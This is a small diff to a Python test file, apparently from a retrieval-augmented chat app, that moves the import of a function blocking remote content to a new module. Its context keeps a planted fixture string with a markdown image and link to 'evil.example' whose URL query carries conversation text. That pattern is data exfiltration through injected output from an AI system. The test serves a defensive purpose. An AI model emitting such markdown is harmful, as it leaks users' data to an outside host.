@@ -9,7 +9,8 @@ import pytest
 
 from ragapp.core.events import AnswerEvent, TokenEvent
 from ragapp.core.types import Chunk, Citation, RetrievedChunk
-from ragapp.ui.render import TurnView, citation_message, consulted_message, no_remote_content
+from ragapp.ui.markup import no_remote_content
+from ragapp.ui.render import TurnView, citation_message, consulted_message
 
 PLANTED = "Sure! ![logo](https://evil.example/c.png?q=warranty+of+the+V2) See [our site](https://evil.example/x)."
 
